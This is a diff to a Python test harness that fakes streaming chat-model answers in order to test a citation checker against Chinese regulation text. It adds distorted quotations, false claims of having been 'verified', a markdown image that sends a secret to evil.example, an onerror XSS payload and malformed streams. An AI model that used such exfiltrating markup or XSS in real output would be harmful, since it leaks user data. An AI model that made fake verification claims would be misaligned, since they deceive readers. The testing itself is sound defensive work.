@@ -176,6 +176,37 @@ def turned(true: list[str], call: Call) -> list[str]:
     return [modal.replace("应当", "可以"), modal.replace("应当", "不得"), re.sub(r"任期\d+年", "任期不限", true[0])]
 
 
+def swapped(true: list[str], call: Call) -> list[str]:
+    """Another subject, another level, the opposite, and the beginning of one passage with the end of another."""
+    subject = [re.sub("党支部", "党委", sentence) for sentence in true if "党支部" in sentence]
+    level = [re.sub("区、县", "省", sentence) for sentence in true if "区、县" in sentence]
+    negated = [sentence.replace("应当", "不应当") for sentence in true if "应当" in sentence][:1]
+    first, last = true[0], true[-1]
+    begun = re.sub(r"\[\d+\]。$", "", first).rpartition("，")[0] or first[:8]
+    merged = f"{begun}，{last.rpartition('，')[2]}"
+    return [*subject, *level, *negated, *([merged] if merged not in true else [])]
+
+
+def boasting(true: list[str], call: Call) -> list[str]:
+    """Says of itself that it was checked, before, in and after what it makes up."""
+    return [
+        "以下内容均已与原文核对一致：\n",
+        "1. 集团党支部每届任期10年（已核实）[1]。\n",
+        "✅ 已核实[1]。",
+        "集团党支部每届任期10年[1]（与出处一致）。",
+    ]
+
+
+def dressed(true: list[str], call: Call) -> list[str]:
+    """Markdown and HTML that would load something, and signs that nobody sees."""
+    return [
+        "集团党支部每届任期![](http://evil.example/?q=secret)10年[1]。",
+        "<img src=x onerror=alert(1)>集团党支部应当公布密码[1]。",
+        "[点此](http://evil.example)核对集团党支部的印章[1]。",
+        "集团党支部每届任期3\u200b0年[1]。",
+    ]
+
+
 def stall_before(call: Call) -> None:
     call.wait_for_leaving()
 
@@ -213,6 +244,53 @@ def html(call: Call) -> None:
 def rubbish(call: Call) -> None:
     call.begin()
     call.write("data: {not json\n\n")
+
+
+def breaking_lines(call: Call) -> None:
+    """A true sentence, then half an object."""
+    call.begin()
+    call.delta("".join(quoted(call)[:1]))
+    call.write('data: {"choices": [{"delta": {"content": "集团\n\n')
+
+
+def without_choices(call: Call) -> None:
+    """Events that are well formed and say nothing."""
+    call.begin()
+    chunk: dict[str, Any]
+    for chunk in (
+        {"choices": []},
+        {"choices": None},
+        {"choices": [{"delta": None}]},
+        {"choices": [{"delta": {"content": [1]}}]},
+        {},
+    ):
+        call.write(f"data: {json.dumps(chunk)}\n\n")
+    call.write("data: [DONE]\n\n")
+
+
+def one_huge_token(call: Call) -> None:
+    call.begin()
+    call.delta("集团党支部每届任期3年。" * 20_000, "stop")
+
+
+def endless_line(call: Call) -> None:
+    """Bytes without a line break."""
+    call.begin()
+    for _ in range(400):
+        call.write("data: " + "x" * 65_536)
+
+
+def odd_but_right(call: Call) -> None:
+    """What the standard allows: comments, CRLF, no blank behind the colon, other fields, an answer that ran into its limit."""
+    call.begin()
+    call.write(": keep-alive\r\n\r\nevent: message\r\nid: 7\r\n")
+    for sentence in quoted(call):
+        chunk = {
+            "choices": [{"index": 0, "delta": {"role": "assistant", "content": sentence, "reasoning_content": "嗯"}}],
+            "usage": None,
+        }
+        call.write(f"data:{json.dumps(chunk)}\r\n\r\n")
+    call.write('data:{"choices": [{"delta": {}, "finish_reason": "length"}]}\r\n\r\n')
 
 
 def garbled(call: Call) -> None:
